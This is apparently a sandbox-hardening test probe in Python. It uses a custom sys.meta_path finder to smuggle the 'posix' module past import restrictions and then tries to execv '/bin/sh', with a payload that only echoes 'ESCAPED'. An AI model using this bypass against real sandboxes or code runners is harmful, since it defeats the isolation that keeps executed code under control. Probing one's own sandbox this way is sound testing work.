# technique: a finder on sys.meta_path that gives a module of its own for every name, builtins included
# source: PEP 302, PEP 451
# verdict: WA
# invariant: whatever is imported, the runner hears nothing of it
# without: seccomp capabilities network read_only_root
import importlib.abc, importlib.util, sys

class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.util.spec_from_loader(name, self)

    def exec_module(self, module):
        module.secret = sys.modules["posix"]

sys.meta_path.insert(0, Finder())
import harmless

posix = harmless.secret
try:
    posix.execv("/bin/sh", ["sh", "-c", "echo ESCAPED"])
except OSError:
    print("held", posix.getuid(), posix.geteuid())
